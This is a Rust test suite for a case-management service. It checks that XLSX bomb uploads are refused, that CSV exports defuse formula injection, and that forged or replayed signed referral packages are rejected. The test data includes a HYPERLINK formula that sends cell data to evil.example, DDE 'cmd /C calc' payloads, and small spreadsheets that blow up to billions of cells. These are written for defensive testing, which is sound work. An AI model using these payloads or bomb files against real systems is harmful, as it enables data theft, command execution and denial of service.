//! Issue 14, items 2, 12 and 13c: hostile spreadsheets (XLSX bombs), the CSV/XLSX formula
//! guard, and signed referral packages. On the configured engine (see `kit::db`).

use crate::kit::{
    TestDb, api_client, api_token, bearer_get, ctx, dayaq_cli_default_key, db_with_user, fetch,
    json_answer, org_and_user, spawn_app, test_db,
};
use dayaq_storage::StoreError;
use dayaq_storage::htcds::Format;
use reqwest::StatusCode;

// ---------- item 2: XLSX bombs ----------

/// The 4.8 KB file of the issue: a header cell at A1 and one cell at XFD1048576. A reader that
/// lays out rows × columns allocates 17 billion cells for it.
pub fn corner_bomb() -> Vec<u8> {
    let mut wb = rust_xlsxwriter::Workbook::new();
    let sheet = wb.add_worksheet();
    sheet.write_string(0, 0, "prs_FirstName").unwrap();
    sheet.write_string(1_048_575, 16_383, "x").unwrap();
    wb.save_to_buffer().unwrap()
}

/// Few cells, but each in the last column of its own row: a grid of 600 × 16,384.
fn wide_bomb() -> Vec<u8> {
    let mut wb = rust_xlsxwriter::Workbook::new();
    let sheet = wb.add_worksheet();
    sheet.write_string(0, 0, "prs_FirstName").unwrap();
    for r in 1..=600 {
        sheet.write_string(r, 16_383, "x").unwrap();
    }
    wb.save_to_buffer().unwrap()
}

#[tokio::test]
async fn xlsx_bombs_get_422_and_the_server_keeps_answering() {
    let app = spawn_app().await;
    let base = &app.base_url;
    let t = api_token(&app.db, "org-a", "caseworker").await;
    let c = api_client();

    let bomb = corner_bomb();
    assert!(bomb.len() < 8 * 1024, "the bomb is small: {}", bomb.len());
    let (status, body) = json_answer(
        c.post(format!("{base}/api/v1/import/htcds"))
            .bearer_auth(&t)
            .header("content-type", Format::XLSX_MEDIA_TYPE)
            .body(bomb),
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    // Read sparsely: the stray cell is named by its position, not allocated.
    assert_eq!(body["error"]["errors"][0]["code"], "extra_cells", "{body}");
    assert_eq!(body["error"]["errors"][0]["row"], 1_048_576, "{body}");
    assert_eq!(body["error"]["errors"][0]["column"], "XFD", "{body}");

    let (status, body) = json_answer(
        c.post(format!("{base}/api/v1/import/htcds"))
            .bearer_auth(&t)
            .header("content-type", Format::XLSX_MEDIA_TYPE)
            .body(wide_bomb()),
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(body["error"]["field"], "file", "{body}");
    assert_eq!(
        body["error"]["errors"][0]["code"], "file_too_large",
        "{body}"
    );
    assert!(
        body["error"]["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("rows × columns"),
        "{body}"
    );

    // The server is still there and still serves a signed-in request.
    let r = fetch(&c, format!("{base}/healthz")).await;
    assert_eq!(r.status(), StatusCode::OK);
    let r = bearer_get(
        &c,
        format!("{base}/api/v1/export/htcds?format=csv&identity=none"),
        &t,
    )
    .await;
    assert_eq!(r.status(), StatusCode::OK);
    app.db.cleanup().await;
}

#[tokio::test]
async fn the_questionnaire_import_uses_the_bounded_reader() {
    let (db, user) = db_with_user("org-q", "caseworker").await;
    let actor = user.actor();
    for bomb in [corner_bomb(), wide_bomb()] {
        let e = db
            .store
            .import_questionnaire(&ctx(&actor), &bomb, true)
            .await
            .unwrap_err();
        let StoreError::Invalid(v) = e else {
            panic!("expected a validation error, got {e:?}");
        };
        assert!(!v.errors.is_empty());
    }
    let e = db
        .store
        .import_questionnaire(&ctx(&actor), &wide_bomb(), true)
        .await
        .unwrap_err();
    let StoreError::Invalid(v) = e else {
        panic!("expected a validation error");
    };
    assert_eq!(v.errors[0].field, "file");
    assert_eq!(v.errors[0].code, "file_too_large");
    db.cleanup().await;
}

#[tokio::test]
async fn cli_import_of_an_xlsx_bomb_fails_cleanly() {
    let (db, user) = db_with_user("org-cli", "caseworker").await;
    db.store.close().await;
    let dir = tempfile::tempdir().unwrap();
    for (name, bytes) in [("corner.xlsx", corner_bomb()), ("wide.xlsx", wide_bomb())] {
        let file = dir.path().join(name);
        std::fs::write(&file, bytes).unwrap();
        let out = dayaq_cli_default_key(
            &db,
            &[
                "import",
                "htcds",
                file.to_str().unwrap(),
                "--as",
                &user.username,
            ],
        );
        // Exit code 1 (a refusal), not a signal (abort) nor a panic (101).
        assert_eq!(
            out.status.code(),
            Some(1),
            "{name}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("error: "), "{name}: {err}");
        if name == "wide.xlsx" {
            assert!(err.contains("file: the sheet spans"), "{err}");
        }
    }
    db.cleanup().await;
}

// ---------- item 13c: the formula guard of every CSV writer ----------

/// Cells as a spreadsheet in an az/ru locale sees them: the line cut at `;` (it ignores the
/// file's quoting of comma-separated fields) and at line breaks.
fn locale_cells(csv: &str) -> Vec<String> {
    csv.split([';', '\n', '\r']).map(str::to_string).collect()
}

fn runs_as_formula(cell: &str) -> bool {
    let c = cell.trim_start_matches(|c: char| c.is_whitespace() && c != '\t');
    let c = c.strip_prefix('"').unwrap_or(c);
    match c.chars().next() {
        Some('=' | '@' | '\t' | '\u{FF1D}' | '\u{FF20}') => true,
        Some('+' | '-' | '\u{FF0B}' | '\u{FF0D}') => !c
            .chars()
            .all(|c| c.is_ascii_digit() || c.is_whitespace() || " +-()./\",".contains(c)),
        _ => false,
    }
}

#[tokio::test]
async fn csv_export_guards_every_cell_a_spreadsheet_would_run() {
    let (db, user) = db_with_user("org-csv", "caseworker").await;
    let actor = user.actor();
    let comments = [
        "x;=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")",
        "  =1+1",
        "\u{FF1D}cmd|' /C calc'!A0",
        "first line\n@SUM(A1)",
        "ok; -2+3+cmd|' /C calc'!A0",
    ];
    for comment in comments {
        let input: dayaq_domain::case::CaseInput = serde_json::from_value(serde_json::json!({
            "prs_FirstName": "Leyla",
            "prs_SecondName": "Aliyeva",
            "prs_Gender": "Feminine",
            "prs_MobilePhone": "+994 50 123 45 67",
            "cco_CaseComment": comment,
        }))
        .unwrap();
        let valid = input.validate(crate::kit::now().date()).unwrap();
        db.store.create_case(&ctx(&actor), &valid).await.unwrap();
    }
    let mut sink = dayaq_storage::htcds::CsvSink::new(Vec::new()).unwrap();
    let n = db
        .store
        .export_cases(&ctx(&actor), &mut sink)
        .await
        .unwrap();
    assert_eq!(n, comments.len());
    let csv = String::from_utf8(sink.finish().unwrap()).unwrap();
    for cell in locale_cells(&csv) {
        assert!(!runs_as_formula(&cell), "a spreadsheet would run {cell:?}");
    }
    // Every field, read back as CSV, is safe at its start too.
    let mut r = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
    for rec in r.records() {
        for f in rec.unwrap().iter() {
            assert!(!dayaq_storage::csv_guard::would_evaluate(f), "{f:?}");
        }
    }
    // The phone stays readable.
    assert!(csv.contains(",+994 50 123 45 67,"), "{csv}");
    // And the export imports back exactly.
    let parsed =
        dayaq_storage::htcds::parse(csv.as_bytes(), Format::Csv, crate::kit::now().date()).unwrap();
    let mut back: Vec<String> = parsed
        .cases
        .iter()
        .map(|c| c.identity.notes.clone().unwrap())
        .collect();
    back.sort();
    let mut want: Vec<String> = comments.iter().map(|s| s.to_string()).collect();
    want.sort();
    assert_eq!(back, want);
    db.cleanup().await;
}

// ---------- item 12: signed referral packages ----------

use dayaq_storage::package_signing::{parse_envelope, seal_envelope, verify_envelope};
use dayaq_storage::packages::{PackageInput, generate_age_identity};

fn codes(e: &StoreError) -> Vec<(String, &'static str)> {
    match e {
        StoreError::Invalid(v) => v.errors.iter().map(|f| (f.field.clone(), f.code)).collect(),
        other => panic!("expected a validation error, got {other:?}"),
    }
}

/// A package exported by `slug` (a supervisor, with a written override) from instance `a`
/// to the off-platform organisation `partner-b` of `a`'s directory.
async fn export_from(a: &TestDb, slug: &str) -> Vec<u8> {
    let (_, sup) = org_and_user(a, slug, "supervisor").await;
    let actor = sup.actor();
    let case = a
        .store
        .create_case(
            &ctx(&actor),
            &crate::kit::sample_case("Aysel", "Mammadova", "1990-04-01", "+994501234567"),
        )
        .await
        .unwrap()
        .id;
    let input = PackageInput {
        recipient_org: "partner-b".into(),
        services: vec!["Medical".into()],
        reason: "Other".into(),
        consent_override_reason: Some("survivor agreed by phone".into()),
    };
    a.store
        .export_package(&ctx(&actor), case, &input)
        .await
        .unwrap()
        .ciphertext
}

#[tokio::test]
async fn referral_packages_are_signed_bound_to_the_recipient_and_verified() {
    let now = crate::kit::now;
    // Instance A: IOM and (a malicious) Mallory, and partner B in its directory.
    let a = test_db().await;
    // Instances B and C, each with its own age identity.
    let b = test_db().await;
    let c = test_db().await;
    let mut publics = Vec::new();
    for inst in [&b, &c] {
        let (text, _) = generate_age_identity(now());
        publics.push(
            inst.store
                .install_instance_identity(&text, now())
                .await
                .unwrap(),
        );
    }
    a.store
        .add_org("partner-b", "Partner B", "NGO", "Baku", now())
        .await
        .unwrap();
    a.store
        .set_org_age_recipient("partner-b", &publics[0], now())
        .await
        .unwrap();
    let iom_file = export_from(&a, "iom").await;
    let mallory_file = export_from(&a, "mallory").await;
    let iom = a.store.org_by_slug("iom").await.unwrap();
    let iom_key = a.store.package_signing_public("iom", now()).await.unwrap();
    let mallory = a.store.org_by_slug("mallory").await.unwrap();
    let mallory_key = a.store.org_signing_key(mallory.id, now()).await.unwrap();

    let (_, b_cw) = org_and_user(&b, "partner-b", "caseworker").await;
    let b_actor = b_cw.actor();
    let b_ids = b.store.instance_identities().await.unwrap();
    let import_b = |file: Vec<u8>| {
        let b = &b;
        let b_ids = &b_ids;
        let b_actor = &b_actor;
        async move { b.store.import_package(&ctx(b_actor), &file, b_ids).await }
    };
    // The import is refused with `code` on `field`.
    let refused = |file: Vec<u8>, field: &'static str, code: &'static str| {
        let import_b = &import_b;
        async move {
            let e = import_b(file).await.unwrap_err();
            assert_eq!(codes(&e), vec![(field.to_string(), code)]);
        }
    };

    // Before an administrator of B accepts IOM's key: refused, unknown signer.
    refused(iom_file.clone(), "signature", "unknown_signer").await;
    b.store
        .trust_package_key("IOM Azerbaijan", &iom_key, now())
        .await
        .unwrap();

    // Unsigned (the bare age file of a real package): refused.
    let env = parse_envelope(&iom_file).unwrap();
    let iom_vk = {
        // IOM's verifying key, from its signing key on instance A.
        a.store
            .org_signing_key(iom.id, now())
            .await
            .unwrap()
            .verifying_key()
    };
    let iom_ciphertext = verify_envelope(&env, &iom_vk).unwrap();
    refused(iom_ciphertext.clone(), "package", "unsigned_package").await;

    // Forged sender: Mallory signs her own package claiming to be IOM.
    let m_env = parse_envelope(&mallory_file).unwrap();
    let m_ciphertext = verify_envelope(&m_env, &mallory_key.verifying_key()).unwrap();
    // Mallory signs `ciphertext` for `recipient` in the name of organisation `sender`.
    let mallory_seals = |sender: uuid::Uuid, recipient: &str, ciphertext: &[u8]| {
        seal_envelope(&mallory_key, &sender.to_string(), recipient, ciphertext).unwrap()
    };
    let forged = mallory_seals(iom.id, &m_env.recipient, &m_ciphertext);
    refused(forged, "signature", "unknown_signer").await;

    // Tampered: one character of the ciphertext changed.
    let mut t = env.clone();
    let mut chars: Vec<char> = t.package.chars().collect();
    chars[40] = if chars[40] == 'A' { 'B' } else { 'A' };
    t.package = chars.into_iter().collect();
    refused(
        serde_json::to_vec(&t).unwrap(),
        "signature",
        "bad_signature",
    )
    .await;

    // Re-signed: Mallory (whose key B also accepted) signs IOM's intercepted ciphertext as
    // her own. The signature is hers and valid, but the content names IOM.
    let m_key = a
        .store
        .package_signing_public("mallory", now())
        .await
        .unwrap();
    b.store
        .trust_package_key("Mallory NGO", &m_key, now())
        .await
        .unwrap();
    let resigned = mallory_seals(mallory.id, &env.recipient, &iom_ciphertext);
    refused(resigned, "signature", "sender_mismatch").await;
    assert_eq!(b.store.count_cases(&ctx(&b_actor)).await.unwrap(), 0);

    // Replay to another instance: C accepted IOM's key too, but the package is for B.
    let (_, c_cw) = org_and_user(&c, "partner-c", "caseworker").await;
    let c_actor = c_cw.actor();
    c.store
        .trust_package_key("IOM Azerbaijan", &iom_key, now())
        .await
        .unwrap();
    let c_ids = c.store.instance_identities().await.unwrap();
    let e = c
        .store
        .import_package(&ctx(&c_actor), &iom_file, &c_ids)
        .await
        .unwrap_err();
    assert_eq!(codes(&e), vec![("package".into(), "wrong_recipient")]);
    // … and re-addressing the envelope to C breaks the signature.
    let mut to_c = env.clone();
    to_c.recipient = publics[1].clone();
    let e = c
        .store
        .import_package(&ctx(&c_actor), &serde_json::to_vec(&to_c).unwrap(), &c_ids)
        .await
        .unwrap_err();
    assert_eq!(codes(&e), vec![("signature".into(), "bad_signature")]);
    assert_eq!(c.store.count_cases(&ctx(&c_actor)).await.unwrap(), 0);

    // The genuine package from an accepted signer: imported, shown as verified.
    let p = import_b(iom_file).await.unwrap();
    assert_eq!(p.from_org, "IOM Azerbaijan");
    assert!(p.verified_sender);
    assert_eq!(p.sender_org_id, iom.id.to_string());
    let records = b
        .store
        .case_packages(&ctx(&b_actor), p.case_id)
        .await
        .unwrap();
    assert_eq!(records[0].counterpart, "IOM Azerbaijan");
    assert!(records[0].verified_sender);
    // Accepting a key is audited, and so is the import with its signer.
    let audit = b.store.audit_recent(50).await.unwrap();
    assert!(audit.iter().any(|r| r.action == "org.package_key_trusted"));
    assert!(
        audit
            .iter()
            .any(|r| r.action == "referral.package_import" && r.outcome == "success")
    );

    a.cleanup().await;
    b.cleanup().await;
    c.cleanup().await;
}
